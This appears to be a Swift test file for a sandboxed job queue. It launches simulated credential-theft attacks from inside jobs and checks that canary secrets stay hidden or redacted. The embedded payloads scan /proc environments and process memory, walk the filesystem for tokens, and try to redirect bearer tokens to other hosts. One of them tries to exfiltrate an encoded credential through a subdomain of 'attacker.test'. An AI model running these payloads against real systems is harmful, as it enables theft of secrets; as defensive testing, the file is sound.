import Crypto
import Foundation
import Jobs
import Postgres
import TestKit

/// What a job tries in order to have, to use or to keep what its worker knows. The canaries: one in the worker's environment; the path
/// of its credentials' file, in its arguments; the secret in a file of its own, read into the worker's memory for the attempt.
enum CredentialCases {
  static let all: [AttackCase] = [cr01, cr02, cr04, cr05, cr06, cr13, cr16, cr19]

  /// As the job gets them: nobody who searches for them may hold them.
  private static let digests = [
    AttackHouse.secret.value, token, (try? Granted.upstream.get().path("credentials.yaml")) ?? "",
  ].map { SHA256.hash(data: Data($0.utf8)).map { String(format: "%02x", $0) }.joined() }

  private static let token = (try? Granted.upstream.get().token) ?? ""

  /// Finds what has the form of a canary and compares digests.
  private static let searching = """
    import hashlib, re
    form = re.compile(rb"(?:environment|token)-[0-9A-F-]{36}|/var/tmp/cordon-upstream-[0-9A-F-]{36}/credentials.yaml")
    wanted, found, looked = {}, [], {"processes": 0, "files": 0, "memory": 0}
    def search(where, data):
        for text in form.findall(data):
            if hashlib.sha256(text).hexdigest() in digests: found.append(where)
    def processes():
        for name in os.listdir("/proc"):
            if not name.isdigit(): continue
            for part in ("environ", "cmdline", "auxv", "maps", "stack", "io", "status"):
                for place in (f"/proc/{name}", f"/proc/{name}/task/{name}"):
                    try:
                        with open(f"{place}/{part}", "rb") as file: search(f"{place}/{part}", file.read())
                        looked["processes"] += 1
                    except OSError: pass
    def memory():
        areas = [line.split(maxsplit=5) for line in open("/proc/self/maps")]
        with open("/proc/self/mem", "rb", buffering=0) as file:
            for area in areas:
                if area[1][0] != "r" or area[-1].strip() in ("[vvar]", "[vsyscall]", "[vvar_vclock]"): continue
                begin, stop = (int(part, 16) for part in area[0].split("-"))
                file.seek(begin)
                try: search("memory", file.read(stop - begin))
                except OSError: continue
                looked["memory"] += stop - begin
    # What cannot have changed since the house was built is passed over: the programs of the host, which all see.
    def files(top, since):
        for directory, names, found_here in os.walk(top):
            if directory.startswith(("/proc/", "/sys/", "/dev/")): names[:] = []; continue
            for name in found_here:
                path = os.path.join(directory, name)
                try:
                    facts = os.lstat(path)
                    if directory.startswith("/usr") and facts.st_ctime < since: continue
                    if not stat.S_ISREG(facts.st_mode): continue
                    with open(path, "rb") as file:
                        search(path, file.read(64 << 20))
                        looked["files"] += 1
                except OSError: pass
    """

  private static func search(_ parts: String) -> String {
    "digests = set(sys.argv[1:4])\n" + searching + "\n" + parts
      + "\nnote(\"found\", sorted(set(found)))\nfor kind, count in looked.items(): note(kind, count)\n"
  }

  private static func judge(_ evidence: Evidence, _ verdict: inout Verdict, _ kinds: String...) {
    verdict.outcome(evidence, "succeeded")
    verdict.equal(evidence.seen["found"], .array([]), "where a canary was found")
    for kind in kinds { verdict.require((evidence.number(kind) ?? 0) > 0, "no \(kind) were looked at") }
  }

  private static let cr01 = AttackCase(
    id: "CR-01", what: "read every /proc/*/environ, cmdline and auxv, with a credential in use",
    payload: .egress(search("if len(sys.argv) < 5: body('http://index.internal/simple/search')\nprocesses()")),
    arguments: { _ in digests }, asks: Granted.asks(["index"]),
    expect: { evidence, verdict in
      judge(evidence, &verdict, "processes")
      verdict.require(
        evidence.upstream.seen().contains("GET /simple/search Bearer \(token)"), "no credential was in use")
    },
    control: .host(
      arguments: { _ in digests + ["host"] },
      check: { evidence, verdict in
        let found = (evidence.seen["found"]?.array ?? []).compactMap(\.string)
        verdict.require(found.contains { $0.hasSuffix("environ") }, "the environment was not found")
        verdict.require(found.contains { $0.hasSuffix("cmdline") }, "the arguments were not found")
      }))

  private static let cr02 = AttackCase(
    id: "CR-02", what: "search every file in sight and its own memory for what its worker knows",
    payload: .python(
      search("memory()\nfiles(sys.argv[4], float(sys.argv[5]))")),
    arguments: { _ in digests + ["/", String(Date().timeIntervalSince1970 - 3600)] }, asks: Granted.asks(["index"]),
    expect: { evidence, verdict in judge(evidence, &verdict, "files", "memory") },
    control: .host(
      arguments: { place in
        digests + [(try? Granted.upstream.get().path("")) ?? "", "0"]
      },
      check: { evidence, verdict in
        let found = (evidence.seen["found"]?.array ?? []).compactMap(\.string)
        // There it has the worker's environment as well.
        verdict.require(found.contains("memory"), "its own environment was not found")
        verdict.require(found.contains { $0.hasSuffix("/token") }, "the secret's file was not found")
      }))

  private static let cr04 = AttackCase(
    id: "CR-04", what: "print the environment", payload: .bash("env; export -p; set"), asks: Granted.asks(["index"]),
    expect: { evidence, verdict in
      verdict.outcome(evidence, "succeeded")
      for canary in [AttackHouse.secret.value, AttackHouse.secret.name, token, "postgres", "DATABASE", "credentials"] {
        verdict.require(!evidence.stdout.contains(canary), "the environment has \(canary)")
      }
      verdict.require(evidence.stdout.contains("CORDON_PROXY="), "control: it is no environment of a job with grants")
    },
    control: .host(
      check: { evidence, verdict in
        verdict.require(evidence.stdout.contains(AttackHouse.secret.value), "the environment was not inherited")
      }))

  private static let cr05 = EgressCases.egress(
    "CR-05", "have the credential sent to another host, path or method", grants: ["index", "plain", "opaque"],
    """
    door, other, path = ("index.internal", 80), ("index.internal", 81), "/" + sys.argv[1]
    host = "Host: index.internal"
    ask("other path", door, f"GET {path} HTTP/1.1", host)
    ask("other method", door, f"POST /simple{path} HTTP/1.1", host, "Content-Length: 0")
    ask("other host", door, f"GET /simple{path} HTTP/1.1", "Host: other.internal")
    ask("other host by URL", door, f"GET http://other.internal/simple{path} HTTP/1.1", "Host: other.internal")
    ask("other grant", other, f"GET /simple{path}-other HTTP/1.1", "Host: index.internal:81", "Authorization: Bearer index")
    ask("control", door, f"GET /simple{path}-control HTTP/1.1", host, "Authorization: Bearer own", "Cookie: own=1",
        "Proxy-Authorization: Basic b3du", "X-Api-Key: own")
    """, mark: "c"
  ) { evidence, verdict in
    verdict.met(evidence, ["other path", "other method", "other host", "other host by URL"], "403", "400")
    verdict.met(evidence, ["other grant", "control"], "200")
    let mark = "c" + evidence.place.mark
    let seen = evidence.upstream.seen().split(separator: "\n").filter { $0.contains(mark) }.map(String.init).sorted()
    verdict.equal(
      seen, ["GET /simple/\(mark)-control Bearer \(token) None", "GET /simple/\(mark)-other None None"],
      "what the servers were asked")
    try await EgressCases.refused(evidence, &verdict, atLeast: 4)
  }

  private static let cr06 = EgressCases.egress(
    "CR-06", "ask while the credential cannot be had", grants: ["fading"],
    fading, mark: "f", words: ["0.3"]
  ) { evidence, verdict in
    // Nothing was withdrawn from the first one: it asks until its time is over, and has the credential each time.
    verdict.met(evidence, ["control", "withdrawn", "again"], "200")
    let mark = "g" + evidence.place.mark
    let specification = try Payload.egress(fading).specification(
      [mark, "20"], label: "CR-06", asks: Granted.asks(["fading"]))
    let job = try await evidence.house!.enqueue(specification)
    let (upstream, path) = (evidence.upstream, evidence.upstream.path("fading"))
    try await eventually("it has asked", limit: .seconds(20)) { upstream.seen().contains("/\(mark)-control Bearer") }
    try FileManager.default.moveItem(atPath: path, toPath: path + ".away")
    let record = try await evidence.house!.finished(job)
    try FileManager.default.moveItem(atPath: path + ".away", toPath: path)
    let book = Evidence.book(result: record["result"], stdout: try await evidence.house!.logs(job).stdout)
    verdict.equal(book["withdrawn"], .string("403"), "what the job was told")
    verdict.equal(book["again"], .string("403"), "what the job was told again")
    let seen = upstream.seen().split(separator: "\n").filter { $0.contains(mark) }
    verdict.require(seen.allSatisfy { $0.contains("Bearer fading-") }, "a request without its credential: \(seen)")
    verdict.require(!seen.contains { $0.contains("-again") }, "asked without a credential")
    let denials = try await evidence.house!.ledger(job).denials
    verdict.require(denials.contains { $0.contains("nothing is sent without it") }, "the ledger: \(denials)")
  }

  private static let fading = """
    door, host = ("fading.internal", 80), "Host: fading.internal"
    ask("control", door, "GET /" + sys.argv[1] + "-control HTTP/1.1", host)
    print("asked", flush=True)
    end_of_time = time.monotonic() + float(sys.argv[2])
    while time.monotonic() < end_of_time:
        ask("withdrawn", door, "GET /" + sys.argv[1] + " HTTP/1.1", host, "Authorization: Bearer own")
        if book["withdrawn"] != "200": break
        time.sleep(0.05)
    for _ in range(5): ask("again", door, "GET /" + sys.argv[1] + "-again HTTP/1.1", host, "Authorization: Bearer own")
    """

  /// What a server echoes, in every spelling that a program may give it, through everything a job leaves.
  private static let cr13 = EgressCases.egress(
    "CR-13", "have a server echo the credential, and leave it behind in every spelling", grants: ["index"],
    """
    import base64, urllib.parse
    echoed = body("http://index.internal/simple/echo").split()[3]
    data = echoed.encode()
    spelled = [echoed, base64.b64encode(data).decode(), base64.b64encode(b"x" + data + b"y").decode(),
               base64.urlsafe_b64encode(b"xy" + data).decode(), data.hex(), data.hex().upper(),
               "".join(f"%{byte:02X}" for byte in data), "".join(f"%{byte:02x}" for byte in data),
               urllib.parse.quote(echoed), json.dumps(echoed)]
    note("length", len(echoed))
    note("spellings", len(spelled))
    note("secret", spelled)
    note(echoed, "as a name")
    for text in spelled:
        print("out", text, flush=True)
        print("error", text, file=sys.stderr, flush=True)
    for number, text in enumerate(spelled):
        with open(f"/output/{number}", "w") as file: file.write("." * 262140 + text)
    with open("/output/named " + echoed, "w") as file: file.write("named")
    os.mkdir("/output/in " + data.hex())
    with open("/output/in " + data.hex() + "/inner", "w") as file: file.write("inner")
    os.symlink("nowhere", "/output/link " + echoed)
    with open("/output/clean", "w") as file: file.write("clean " + echoed[:9])
    note("asked", len(body("http://index.internal/simple/" + echoed)))
    note("denied", said(("index.internal", 80), f"GET /{echoed} HTTP/1.1\\r\\nHost: index.internal\\r\\n\\r\\n".encode()))
    connect("tunnel", echoed + ".attacker.test:443")
    for half in (echoed[:9], echoed[9:]):
        sys.stdout.write(half)
        sys.stdout.flush()
        time.sleep(0.3)
    print()
    """
  ) { evidence, verdict in
    verdict.equal(evidence.number("length").map(Int.init), token.utf8.count, "control: bytes of what was echoed")
    verdict.equal(evidence.number("spellings"), 10, "spellings")
    // In files, in their names, and in what was asked for.
    let named = ["named [redacted:index]", "in [redacted:index]", "link [redacted:index]"]
    verdict.equal(
      evidence.quarantined,
      Dictionary(uniqueKeysWithValues: ((0..<10).map(String.init) + named).map { ($0, "secret") }), "quarantined")
    verdict.equal(evidence.artifacts, ["clean"], "artifacts")
    verdict.require(evidence.number("asked") ?? 0 > 0, "control: the path was asked for")
    verdict.met(evidence, ["denied", "tunnel"], "403")
    let paths = try await evidence.ledger().compactMap { $0["path"]?.string }
    for path in ["/simple/[redacted:index]", "/[redacted:index]"] {
      verdict.require(paths.contains(path), "the ledger has no path \(path): \(paths)")
    }
    let stored = try await everything(evidence)
    for (name, text) in stored {
      for spelling in spellings where text.contains(spelling) {
        verdict.fail("\(name) holds the secret as \(spelling.prefix(12))…")
      }
    }
    verdict.require(
      evidence.stdout.contains("out [redacted:index]"), "control: stdout is \(evidence.stdout.prefix(300))")
    verdict.require(evidence.stderr.contains("error [redacted:index]"), "control: nothing was printed")
    try await progress(evidence, &verdict)
  }

  /// What a job says of its progress is there only while it runs.
  private static func progress(_ evidence: Evidence, _ verdict: inout Verdict) async throws {
    let house = evidence.house!
    let job = try await house.enqueue(
      Payload.egress(
        """
        path = os.environ["CORDON_PROGRESS"]
        with open(path + ".new", "w") as file:
            json.dump({"percent": 50, "message": body("http://index.internal/simple/progress").split()[3]}, file)
        os.rename(path + ".new", path)
        time.sleep(20)
        """
      ).specification([], label: "CR-13", asks: Granted.asks(["index"])))
    let record = try await house.wait(for: job) { $0["progress"]?.object != nil || $0["state"] == .string("finished") }
    _ = try await house.client.query(
      Statement(name: "cr-cancel", sql: "SELECT cordon.cancel($1::text::uuid)"), [Parameter(job)])
    _ = try await house.finished(job)
    let said = "\(record["progress"] ?? .null)"
    verdict.require(said.contains("[redacted:index]") && !said.contains(token), "progress says \(said)")
  }

  private static let spellings: [String] = {
    let bytes = Array(token.utf8)
    let hex = bytes.map { String(format: "%02x", $0) }
    return [
      token, Data(bytes).base64EncodedString(), hex.joined(), hex.joined().uppercased(),
      hex.map { "%" + $0 }.joined(), hex.map { "%" + $0.uppercased() }.joined(),
      // What of it stands whole behind one byte, and behind two.
      String(Data([120] + bytes).base64EncodedString().dropFirst(2).dropLast(6)),
      String(Data([120, 121] + bytes).base64EncodedString().dropFirst(3).dropLast(6)),
    ]
  }()

  /// Every row of every table of the queue as text, by table, and what the tool shows of the job.
  private static func everything(_ evidence: Evidence) async throws -> [(name: String, text: String)] {
    let house = evidence.house!
    let tables = try await house.superuser.query(
      Statement(
        name: "cr-tables",
        sql: """
          SELECT c.relname FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace
          WHERE n.nspname = 'cordon' AND c.relkind = 'r'
          """)
    ).map { try $0.get("relname", as: String.self) }
    var found = [("stdout", evidence.stdout), ("stderr", evidence.stderr), ("the record", "\(evidence.record)")]
    for table in tables {
      let rows = try await house.superuser.query(
        Statement(
          name: "cr-\(table)",
          sql: "SELECT coalesce(string_agg(t::text, E'\\n'), '') AS rows FROM cordon.\"\(table)\" t"))
      found.append(("table " + table, try rows[0].get("rows", as: String.self)))
    }
    for words in [["show", "--json"], ["egress", "--json"], ["logs"]] {
      found.append(("cordon " + words[0], try await house.house.tool.run(words + [evidence.job]).text))
    }
    return found
  }

  private static let cr16 = EgressCases.egress(
    "CR-16", "find the credential in pg_stat_activity, the server's log or a notification", grants: ["index"],
    """
    for number in range(3): body("http://index.internal/simple/statements")
    note("done", True)
    """
  ) { evidence, verdict in
    let house = evidence.house!
    try await logStatements("all", house)
    let watching = Task { try await Watch.run(house) }
    let specification = try Payload.egress(
      """
      import subprocess
      for number in range(20):
          print(body("http://index.internal/simple/statements").split()[3], flush=True)
          time.sleep(0.05)
      """
    ).specification([], label: "CR-16", asks: Granted.asks(["index"]))
    let job = try await house.enqueue(specification)
    let record = try await house.finished(job)
    try await logStatements("none", house)
    let (statements, payloads) = try await watching.value
    verdict.equal(record["outcome"], .string("succeeded"), "outcome")
    verdict.require(statements.contains { $0.contains("cordon.") }, "control: no statement of the worker was seen")
    verdict.require(payloads.contains { $0.contains("control") }, "control: no notification was heard: \(payloads)")
    let log = try await HostCommand.run(
      "cat $(find \"$1/postgres\" -name '*log*' -type f -size -64M)", house.house.directory.path)
    verdict.require(log.output.contains("append_log"), "control: the server's log has no statement of the worker")
    for (name, text) in [
      ("pg_stat_activity", statements.joined(separator: "\n")), ("a notification", payloads.joined(separator: "\n")),
      ("the server's log", log.output), ("the worker's log", house.worker.stderr),
    ] {
      for canary in spellings + [AttackHouse.secret.value] where text.contains(canary) {
        verdict.fail("\(name) has \(canary.prefix(8))…")
      }
    }
  }

  private static func logStatements(_ which: String, _ house: AttackHouse) async throws {
    _ = try await house.superuser.query(
      Statement(name: "log-\(which)", sql: "ALTER SYSTEM SET log_statement = '\(which)'"))
    _ = try await house.superuser.query(Statement(name: "reload", sql: "SELECT pg_reload_conf()"))
  }

  /// Statements that sessions are at, and what is told on the queue's channels, for as long as a job of CR-16 takes.
  private enum Watch {
    static func run(_ house: AttackHouse) async throws -> (statements: [String], payloads: [String]) {
      try await house.superuser.withConnection { connection in
        for channel in ["cordon_ready", "cordon_cancel", "cordon_progress", "cordon_revoked"] {
          try await connection.listen(channel)
        }
        var statements: Set<String> = []
        let end = ContinuousClock.now + Duration.seconds(4)
        while ContinuousClock.now < end {
          for row in try await connection.query(
            Statement(name: "cr-activity", sql: "SELECT coalesce(query, '') AS query FROM pg_stat_activity"), [])
          { statements.insert(try row.get("query", as: String.self)) }
          try await Task.sleep(for: .milliseconds(20))
        }
        _ = try await connection.query(
          Statement(name: "cr-notify", sql: "SELECT pg_notify('cordon_ready', 'control')"), [])
        var payloads: [String] = []
        for await notification in connection.notifications {
          payloads.append(notification.payload)
          if notification.payload == "control" { break }
        }
        return (Array(statements), payloads)
      }
    }
  }

  private static let cr19 = AttackCase(
    id: "CR-19", what: "the caller's own token, in the environment of whoever enqueues", payload: .bash("env"),
    expect: { evidence, verdict in
      verdict.outcome(evidence, "succeeded")
      let caller = "caller-\(UUID().uuidString)"
      let names = ["CORDON_TOKEN", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "PGPASSWORD", "HTTP_AUTHORIZATION"]
      var environment = ProcessInfo.processInfo.environment
      for name in names { environment[name] = caller }
      environment["CORDON_DATABASE_URL"] = evidence.house!.house.tool.url
      // The control: the tool itself has them.
      let own = try await HostCommand.run("env", [], environment: environment)
      verdict.require(own.output.contains("GITHUB_TOKEN=\(caller)"), "control: no token in the caller's environment")
      let running = try RunningTool(
        ["run", "--queue", evidence.house!.queue, "--json", "--", "/usr/bin/env"], environment: environment)
      let answer = try await running.answer()
      verdict.equal(answer.status, 0, "exit status, \(answer.stderr)")
      let job = try answer.json()["job"]?.string ?? ""
      let printed = try await evidence.house!.logs(job).stdout
      verdict.require(printed.contains("CORDON_JOB="), "control: it printed \(printed)")
      for text in [printed, "\(try await evidence.house!.record(job))"] {
        verdict.require(!text.contains(caller), "the caller's token came into the cell or the record")
        for name in names { verdict.require(!text.contains(name), "\(name) came into the cell or the record") }
      }
    }, control: .within)
}
